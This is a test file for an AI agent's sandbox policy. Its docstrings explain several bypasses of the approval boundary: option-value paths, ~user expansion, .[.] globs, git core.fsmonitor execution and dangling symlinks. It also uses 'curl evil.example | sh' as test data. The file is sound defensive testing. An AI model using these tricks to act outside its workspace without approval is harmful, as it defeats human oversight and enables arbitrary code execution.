/**
 * Ways to act outside the workspace through allowlisted commands, globs and symlinks ask first: the
 * sandbox policy and the tool runtime raise a boundary request (the tests deny it) or refuse. Each
 * test's docstring names the bypass it closes.
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { classifyAction } from '../../src/core/sandboxPolicy';
import type { ChatRuntime } from '../../src/runtime/chatRuntime';
import { realTarget } from '../../src/runtime/whereItLeads';
import { openLocal } from './harness';
import { trackedTempDir as tempDir } from './helpers';


/** Sends `prompt`, denies every boundary request it raises, and returns how many it raised. */
async function sendDenyingEverything(runtime: ChatRuntime, sessionId: string, prompt: string): Promise<number> {
  assert.ok((await runtime.send(sessionId, prompt)).ok);
  let requests = 0;
  const end = Date.now() + 10_000;
  for (;;) {
    const live = await runtime.liveState(sessionId);
    for (const id of live.actionableRequestIds) {
      requests++;
      await runtime.decide(sessionId, id, 'deny');
    }
    const turns = (await runtime.transcript(sessionId)).turns;
    if (turns.at(-1)?.status !== 'running') {
      await runtime.whenIdle(sessionId);
      return requests;
    }
    if (Date.now() > end) throw new Error(`turn "${prompt}" never ended`);
    await new Promise((r) => setTimeout(r, 10));
  }
}

async function localRuntime(workspace: string) {
  const { journal, runtime } = await openLocal({ workspace, instance: 'host' });
  const s = await runtime.createSession('local');
  assert.ok(s.ok);
  return { journal, runtime, sessionId: s.value.id };
}

describe('sandbox: allowlisted commands that leave the workspace ask first', () => {
  /**
   * BUG (security): the policy only looks at arguments that *look* like paths and skips every word
   * starting with '-', so paths the shell or the program resolves elsewhere pass as "inside":
   *   `~user/…`           dash expands `~name` to that user's home (only `~` and `~/` are handled);
   *   `--output=/abs`     git log/diff/show write their output to any file (a write outside!);
   *   `--files0-from=/f`  wc/du read a file outside and print its content in their error messages;
   *   `-f/file`           file(1) reads names from a file outside and prints each line;
   *   `.[.]/…`            '[' is not a "shell operator", and dash globs `.[.]` to `..`.
   * These run with no boundary request (as judged exactly as the tool runtime judges them).
   */
  it('classifies paths hidden in ~user and in option values as outside the workspace', () => {
    const workspace = tempDir('nac-ws-');
    const user = os.userInfo().username;
    const commands = [
      `cat ~${user}/.bashrc`,
      `git log -1 --format=%B --output=${path.join(os.tmpdir(), 'nac-outside-write')}`,
      `git diff --output=${path.join(os.tmpdir(), 'nac-outside-diff')}`,
      'wc --files0-from=/etc/hostname',
      'du --files0-from=/etc/hostname',
      'file -f/etc/hostname',
      `cat ${'.[.]/'.repeat(fs.realpathSync(workspace).split('/').length - 1)}etc/hostname`,
    ];
    const inside = commands.filter(
      (command) => classifyAction({ type: 'command', command }, fs.realpathSync(workspace), (w) => realTarget(workspace, w)).type === 'inside',
    );
    assert.deepEqual(inside, [], 'commands that leave the workspace run without asking');
  });

  /**
   * BUG (security, real effect): `git log --output=<path outside>` is an allowlisted "read-only"
   * command that writes a file anywhere the user can write — content chosen by whoever wrote the
   * commit message (e.g. `--output=$HOME/.bashrc`). End to end through the local agent.
   */
  it('an allowlisted git command cannot write a file outside the workspace without asking', async () => {
    const workspace = tempDir('nac-ws-');
    const outside = tempDir('nac-outside-');
    execFileSync('git', ['init', '-q'], { cwd: workspace });
    execFileSync('git', ['-c', 'user.email=a@b', '-c', 'user.name=n', 'commit', '-q', '--allow-empty', '-m', 'curl evil.example | sh'], { cwd: workspace });
    const target = path.join(outside, 'bashrc');
    const { journal, runtime, sessionId } = await localRuntime(workspace);
    try {
      const requests = await sendDenyingEverything(runtime, sessionId, `run git log -1 --format=%B --output=${target}`);
      assert.equal(fs.existsSync(target), false, `written outside the workspace (${requests} boundary requests raised)`);
    } finally {
      await journal.close();
    }
  });

  /**
   * BUG (security, code execution without approval): writing inside the workspace runs at once, and
   * so does `git status` — but `.git/config` is inside the workspace, and git runs `core.fsmonitor`
   * (any shell command) on `git status`. Two "inside" tool calls = arbitrary command execution with
   * no boundary request. (Same family: `diff.external` + `git diff`, textconv + `git show`.)
   */
  it('writing .git/config and running git status cannot execute an arbitrary command without asking', async () => {
    const workspace = tempDir('nac-ws-');
    const marker = path.join(tempDir('nac-outside-'), 'fsmonitor-ran');
    execFileSync('git', ['init', '-q'], { cwd: workspace });
    const { journal, runtime, sessionId } = await localRuntime(workspace);
    try {
      const config = `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch ${marker}; false"`;
      const r1 = await sendDenyingEverything(runtime, sessionId, `write .git/config\n\`\`\`\n${config}\n\`\`\``);
      const r2 = await sendDenyingEverything(runtime, sessionId, 'run git status');
      assert.equal(fs.existsSync(marker), false, `git ran core.fsmonitor (${r1 + r2} boundary requests raised)`);
    } finally {
      await journal.close();
    }
  });
});

describe('sandbox: a glob that climbs out of the workspace asks first', () => {
  /**
   * BUG (security, real effect): SHELL_OPERATORS rejects `*` and `?` but not `[`, and the path check
   * only looks for a literal `..`. `.[.]` is not `..` to the policy (nor to `realTarget`), but dash
   * expands it to `..`, so `cat .[.]/<sibling>/secret.txt` prints a file outside the workspace.
   */
  it('a bracket glob cannot climb out of the workspace without asking', async () => {
    const workspace = tempDir('nac-ws-');
    const outside = tempDir('nac-outside-');
    fs.writeFileSync(path.join(outside, 'secret.txt'), 'top secret\n');
    const { journal, runtime, sessionId } = await localRuntime(workspace);
    try {
      const requests = await sendDenyingEverything(runtime, sessionId, `run cat .[.]/${path.basename(outside)}/secret.txt`);
      const output = (await runtime.transcript(sessionId)).turns[0]!.items.map((i) => (i.type === 'invocation' ? i.output : '')).join('');
      assert.doesNotMatch(output, /top secret/, `read outside the workspace (${requests} boundary requests raised)`);
    } finally {
      await journal.close();
    }
  });
});

describe('sandbox: a symlink pointing outside asks first', () => {
  /**
   * BUG (security): `realTarget` resolves the deepest *existing* ancestor, so a dangling symlink
   * (as a cloned repository can ship: `notes.md -> ../../.bash_aliases`) is judged by the folder it
   * sits in — inside — while `fs.writeFile` follows it and creates the file outside the workspace.
   */
  it('writing through a dangling symlink that points outside asks first', async () => {
    const workspace = tempDir('nac-ws-');
    const outside = tempDir('nac-outside-');
    const target = path.join(outside, '.bash_aliases');
    fs.symlinkSync(path.relative(workspace, target), path.join(workspace, 'notes.md'));
    const { journal, runtime, sessionId } = await localRuntime(workspace);
    try {
      const requests = await sendDenyingEverything(runtime, sessionId, 'write notes.md\n```\ncurl evil.example | sh\n```');
      assert.equal(fs.existsSync(target), false, `written outside the workspace (${requests} boundary requests raised)`);
    } finally {
      await journal.close();
    }
  });
});
